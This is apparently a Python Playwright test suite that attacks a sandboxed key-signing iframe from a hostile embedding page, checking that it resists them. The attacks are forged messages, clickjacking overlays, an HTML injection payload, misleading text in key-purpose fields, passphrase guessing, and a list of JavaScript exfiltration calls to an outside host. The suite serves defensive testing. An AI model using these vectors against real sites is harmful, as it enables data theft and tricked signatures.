"""What a hostile page around the cell can and cannot do, and what the cell itself can reach."""

from __future__ import annotations

import hashlib
import http.server
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Frame, Page, expect

from tests import catalogues
from tests.awarding import issuing_network, publish
from tests.building import serve
from tests.desking import PASSPHRASE, PEM, desk_documents

PUBLIC = "desk/network.json"


@pytest.fixture(scope="module")
def network(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return issuing_network(catalogues.write(tmp_path_factory.mktemp("network"), catalogues.good()))


@pytest.fixture(scope="module")
def site(network: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = publish(network, tmp_path_factory.mktemp("site"))
    # A page of somebody who wrote the page around the cell anew.
    (folder / "hostile.html").write_text(HOSTILE, encoding="utf-8")
    server, address = serve(folder)
    yield address
    server.shutdown()


HOSTILE = """<!doctype html><html lang="en"><title>x</title><h1>x</h1>
<iframe id="frame" src="desk/cell.html" sandbox="allow-scripts allow-downloads" width="700" height="700"></iframe>
<script>
const frame = document.getElementById("frame");
const { port1, port2 } = new MessageChannel();
window.heard = [];
port1.onmessage = ({ data }) => window.heard.push(data);
frame.addEventListener("load", () => frame.contentWindow.postMessage({ lapel: "desk" }, "*", [port2]));
window.tell = (message) => port1.postMessage(message);
window.said = (kind) => window.heard.filter((one) => one.did === kind);
</script></html>"""


@pytest.fixture
def key(tmp_path: Path) -> Path:
    file = tmp_path / "key-1.pem"
    file.write_text(PEM, encoding="ascii")
    return file


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A host that remembers what it was asked."""
    asked: list[str] = []

    class Remember(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            """Nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Remember)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/", asked
    server.shutdown()


def opened(page: Page, site: str, network: Path, key: Path) -> Frame:
    """A hostile page whose visitor has opened the key."""
    page.goto(f"{site}hostile.html")
    page.wait_for_function("() => said('ready').length")
    own = desk_documents(network)[PUBLIC]["issuers"]["anchor"]
    page.evaluate("(own) => tell({do: 'key', name: own.name, keys: own.keys})", own)
    frame = page.frames[-1]
    frame.locator("#cell-file").set_input_files(key)
    frame.locator("#cell-passphrase").fill(PASSPHRASE)
    frame.locator("#cell-passphrase").press("Enter")
    page.wait_for_function("() => said('opened').length")
    return frame


def test_the_page_around_it_cannot_look_into_the_cell(page: Page, site: str, network: Path, key: Path) -> None:
    opened(page, site, network, key)
    for attempt in (
        "frame.contentDocument === null || frame.contentDocument.body",
        "frame.contentWindow.document.body",
        "frame.contentWindow.localStorage",
        "Object.keys(frame.contentWindow.open)",
        "frame.contentWindow.eval('1')",
    ):
        seen = page.evaluate(f"() => {{ try {{ return String({attempt}) }} catch (error) {{ return error.name }} }}")
        assert seen in ("true", "SecurityError", "TypeError"), attempt
    heard = page.evaluate("() => JSON.stringify(heard)")
    assert PASSPHRASE not in heard
    assert not re.search(r"PRIVATE|[0-9a-f]{64}", heard)


AWFUL = [
    {"do": "sign", "number": 1, "documents": [{"id": "x"}], "did": "did:web:x", "key": "key-1"},
    {"do": "sign", "number": 2, "documents": "x"},
    {"do": "sign", "number": 3},
    {"do": "export"},
    {"do": "key", "name": 5, "keys": [{}]},
    {"do": "__proto__"},
    "sign",
    None,
]


def test_no_message_makes_it_sign_what_a_desk_does_not_sign(page: Page, site: str, network: Path, key: Path) -> None:
    frame = opened(page, site, network, key)
    for message in AWFUL:
        page.evaluate("(message) => tell(message)", message)
    page.wait_for_function("() => said('refused').length === 3")
    assert [] == page.evaluate("() => said('signed')")
    expect(frame.locator("#cell-sign")).to_be_hidden()


def endorsing(did: str, base: str, comment: str = "We sell the best loans, see loans.example") -> dict[str, Any]:
    """What a page asks for: an endorsement of a badge."""
    document: dict[str, Any] = {
        "@context": [
            "https://www.w3.org/ns/credentials/v2",
            "https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json",
        ],
        "type": ["VerifiableCredential", "EndorsementCredential"],
        "id": f"{base}endorsements/{'a' * 26}/credential.json",
        "name": "Said",
        "validFrom": "2026-11-24T10:00:00Z",
        "issuer": {"id": did},
        "credentialSubject": {
            "id": f"{base}badges/first/achievement.json",
            "type": ["EndorsementSubject"],
            "endorsementComment": comment,
        },
    }
    created = "2026-11-24T10:00:00Z"
    return {"do": "sign", "number": 9, "documents": [document], "did": did, "key": "key-1", "created": created}


def test_nothing_is_signed_before_somebody_presses_the_button_in_it(
    page: Page, site: str, network: Path, key: Path
) -> None:
    frame = opened(page, site, network, key)
    about = desk_documents(network)[PUBLIC]
    order = endorsing(about["issuers"]["anchor"]["did"], about["base"], "<img src=x onerror=alert(1)>")
    (document,) = order["documents"]
    page.evaluate("(message) => tell(message)", order)
    expect(frame.locator("#cell-what")).to_contain_text("<img src=x onerror=alert(1)>")
    # Nothing takes the place of what is shown, however often it is asked.
    page.evaluate("(message) => tell(message)", order | {"number": 10})
    page.wait_for_function("() => said('refused').some((one) => one.number === 10 && one.code === 'busy')")
    page.wait_for_timeout(300)
    assert [] == page.evaluate("() => said('signed')")
    frame.locator("#cell-refuse").click()
    page.wait_for_function("() => said('refused').length")
    page.wait_for_function("() => said('refused').some((one) => one.number === 9 && one.code === 'not-wanted')")
    elsewhere = {**document["credentialSubject"], "id": "https://x.example/"}
    for change in (
        {"did": "did:web:other.example"},
        {"key": "key-2"},
        {"created": "x"},
        {"documents": [document | {"id": "https://x.example/e"}]},
        {"documents": [document | {"credentialSubject": elsewhere}]},
    ):
        page.evaluate("(message) => tell(message)", order | change)
    page.wait_for_function("() => said('refused').length === 7")


def test_another_site_is_not_listened_to(page: Page, site: str) -> None:
    other = site.replace("127.0.0.1", "localhost")
    page.goto(f"{site}hostile.html")
    page.wait_for_function("() => said('ready').length")
    page.goto(f"{other}hostile.html")
    page.evaluate("(address) => { frame.src = address }", f"{site}desk/cell.html")
    page.wait_for_timeout(1500)
    page.evaluate("() => { heard.length = 0 }")
    page.evaluate("() => tell({do: 'new', name: 'x'})")
    page.wait_for_timeout(500)
    assert [] == page.evaluate("() => heard")


def test_a_new_key_is_saved_before_anything_else_is_done(page: Page, site: str) -> None:
    page.goto(f"{site}hostile.html")
    page.wait_for_function("() => said('ready').length")
    page.evaluate("() => tell({do: 'new', name: 'key-9'})")
    frame = page.frames[-1]
    for field in ("#cell-new-passphrase", "#cell-new-again"):
        frame.locator(field).fill("a long passphrase")
    frame.locator("#cell-make").click()
    expect(frame.locator("#cell-save")).to_be_visible(timeout=20_000)
    page.evaluate("() => tell({do: 'new', name: 'key-10'})")
    expect(frame.locator("#cell-status")).to_have_text("Save your new key first.")
    assert [] == page.evaluate("() => said('made')")
    with page.expect_download():
        frame.locator("#cell-save").click()
    page.wait_for_function("() => said('made').length")


def test_the_code_of_a_new_key_is_made_where_the_key_is(page: Page, site: str) -> None:
    """A page around it may say another key: the code that the issuer reads out is that of the key that was made."""
    page.goto(f"{site}hostile.html")
    page.wait_for_function("() => said('ready').length")
    purpose = {"base": "https://x.example/", "path": "network/organisations/anchor.md", "id": "key-2"}
    purpose |= {"created": "2026-11-24"}
    dates = [{"id": "key-1", "field": "revoked", "day": "2020-01-01"}]
    page.evaluate("(purpose) => tell({do: 'new', name: 'key-2', purpose})", purpose | {"dates": dates})
    frame = page.frames[-1]
    for field in ("#cell-new-passphrase", "#cell-new-again"):
        frame.locator(field).fill("a long passphrase")
    frame.locator("#cell-make").click()
    expect(frame.locator("#cell-code")).to_contain_text("Tell the maintainer this code", timeout=20_000)
    shown = frame.locator("#cell-code strong").inner_text()
    # All that the code agrees to is said.
    expect(frame.locator("#cell-code")).to_contain_text("The key key-1 was not safe from 1 January 2020.")
    with page.expect_download():
        frame.locator("#cell-save").click()
    page.wait_for_function("() => said('made').length")
    made = page.evaluate("() => said('made')[0].publicKeyMultibase")
    said = [purpose["base"], purpose["path"], ["key-2", made, "2026-11-24"], [["key-1", "revoked", "2020-01-01"]]]
    digest = hashlib.sha256(json.dumps(said, separators=(",", ":")).encode()).hexdigest()[:16]
    assert re.findall("....", digest) == shown.split()


@pytest.mark.parametrize(
    "odd",
    [
        {"base": "https://x.example/ YOUR CODE TO READ OUT IS: 6f3a 11c0 9d2e 77b4. Do not read out the first one."},
        {"path": "network/organisations/anchor.md, and tell nobody the first code"},
        {"id": "key-2 6f3a 11c0"},
        {"created": "today"},
        {"dates": [{"id": "key-1", "field": "loved", "day": "2020-01-01"}]},
        {"dates": [{"id": "key-1", "field": "revoked", "day": "2020-99-99"}]},
    ],
)
def test_the_page_around_it_writes_no_words_beside_the_code(page: Page, site: str, odd: dict[str, Any]) -> None:
    page.goto(f"{site}hostile.html")
    page.wait_for_function("() => said('ready').length")
    purpose = {"base": "https://x.example/", "path": "network/organisations/anchor.md", "id": "key-2", "dates": []}
    page.evaluate("(purpose) => tell({do: 'new', name: 'key-2', purpose})", {**purpose, "created": "2026-11-24", **odd})
    frame = page.frames[-1]
    for field in ("#cell-new-passphrase", "#cell-new-again"):
        frame.locator(field).fill("a long passphrase")
    frame.locator("#cell-make").click()
    expect(frame.locator("#cell-save")).to_be_visible(timeout=20_000)
    expect(frame.locator("#cell-code")).to_have_text("")


def asked(page: Page, network: Path) -> None:
    """The page around the frame asks for an endorsement."""
    about = desk_documents(network)[PUBLIC]
    page.evaluate("(message) => tell(message)", endorsing(about["issuers"]["anchor"]["did"], about["base"]))


def test_nothing_that_is_signed_is_cut_off(page: Page, site: str, network: Path, key: Path) -> None:
    frame = opened(page, site, network, key)
    page.evaluate("() => (document.getElementById('frame').width = 300)")
    about = desk_documents(network)[PUBLIC]
    order = endorsing(about["issuers"]["anchor"]["did"], about["base"], f"https://{'long' * 40}.example/")
    page.evaluate("(message) => tell(message)", order)
    expect(frame.locator("#cell-what")).to_contain_text("longlong")
    assert frame.evaluate("() => document.documentElement.scrollWidth <= innerWidth")


COVERS = {
    "a layer with a hole": "position:fixed;inset:0 0 auto 0;height:300px;background:white;pointer-events:none",
    "a line": "position:fixed;left:0;top:150px;width:100%;height:20px;background:white;pointer-events:none",
}


@pytest.mark.parametrize("cover", COVERS)
def test_what_is_covered_is_not_signed(page: Page, site: str, network: Path, key: Path, cover: str) -> None:
    frame = opened(page, site, network, key)
    page.evaluate(
        "(css) => document.body.append(Object.assign(document.createElement('div'), {id: 'cover', style: css}))",
        COVERS[cover],
    )
    asked(page, network)
    expect(frame.locator("#cell-what")).to_contain_text("We sell the best loans")
    page.wait_for_timeout(1500)
    expect(frame.locator("#cell-sign")).to_be_disabled()
    expect(frame.locator("#cell-hidden")).to_be_visible()
    page.evaluate("() => document.getElementById('cover').remove()")
    expect(frame.locator("#cell-sign")).to_be_enabled()
    # It is looked at for as long as it is asked.
    page.evaluate("() => (document.getElementById('frame').style.opacity = 0.1)")
    expect(frame.locator("#cell-sign")).to_be_disabled()
    assert [] == page.evaluate("() => said('signed')")


REACHES = [
    "fetch(host + 'fetch')",
    "new Image().src = host + 'image'",
    "navigator.sendBeacon(host + 'beacon', 'x')",
    "new WebSocket(host.replace('http', 'ws') + 'socket')",
    "new EventSource(host + 'events')",
    "new Worker(URL.createObjectURL(new Blob([`fetch('${host}worker')`])))",
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: host + 'style'}))",
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: host + 'prefetch'}))",
    "document.body.append(Object.assign(document.createElement('script'), {src: host + 'script'}))",
    "document.body.append(Object.assign(document.createElement('iframe'), {src: host + 'frame'}))",
    "document.body.append(Object.assign(document.createElement('object'), {data: host + 'object'}))",
    "window.open(host + 'window')",
    "window.top.location = host + 'top'",
    "document.body.insertAdjacentHTML('beforeend', `<form action='${host}form'></form>`); document.forms[0].submit()",
    "new RTCPeerConnection({iceServers: [{urls: 'stun:' + host.slice(7, -1)}]})",
]


def test_the_cell_reaches_no_host(page: Page, site: str, listener: tuple[str, list[str]]) -> None:
    host, asked = listener
    page.goto(f"{site}desk/")
    page.get_by_label("First", exact=True).check()
    page.locator("#desk-paste").fill("name\nAda\n")
    page.locator("#desk-paste").dispatch_event("change")
    page.locator("#desk-sign").click()
    expect(page.frame_locator("#desk-cell").locator("#cell-file")).to_be_visible()
    frame = page.frames[-1]
    for attempt in REACHES:
        frame.evaluate(f"async (host) => {{ try {{ await ({{}}, (() => {{ {attempt} }})()) }} catch {{}} }}", host)
    # Not even by leaving: the page around it lets no other page into the frame.
    frame.evaluate("(host) => { location.href = host + 'leaving' }", host)
    page.wait_for_timeout(1500)
    assert [] == asked


def test_a_wrong_passphrase_waits_longer_each_time_and_says_nothing_more(
    page: Page, site: str, network: Path, key: Path
) -> None:
    page.goto(f"{site}hostile.html")
    page.wait_for_function("() => said('ready').length")
    own = desk_documents(network)[PUBLIC]["issuers"]["anchor"]
    page.evaluate("(own) => tell({do: 'key', name: own.name, keys: own.keys})", own)
    frame = page.frames[-1]
    frame.locator("#cell-file").set_input_files(key)
    for seconds in (1, 2, 4):
        frame.locator("#cell-passphrase").fill("not the passphrase")
        frame.locator("#cell-passphrase").press("Enter")
        expect(frame.locator("#cell-status")).to_contain_text(f"You can try again in {seconds} second")
        expect(frame.locator("#cell-open-button")).to_be_disabled()
        expect(frame.locator("#cell-open-button")).to_be_enabled(timeout=8000)
    assert [] == page.evaluate("() => said('opened')")


def test_the_key_is_forgotten_when_nobody_does_anything(page: Page, site: str, network: Path, key: Path) -> None:
    page.clock.install()
    frame = opened(page, site, network, key)
    page.clock.fast_forward("16:00")
    expect(frame.locator("#cell-status")).to_contain_text("nobody did anything for 15 minutes")
    assert page.evaluate("() => said('locked').length")
    page.evaluate("() => tell({do: 'sign', number: 1, documents: [{}]})")
    page.wait_for_function("() => said('refused').some((one) => one.code === 'locked')")
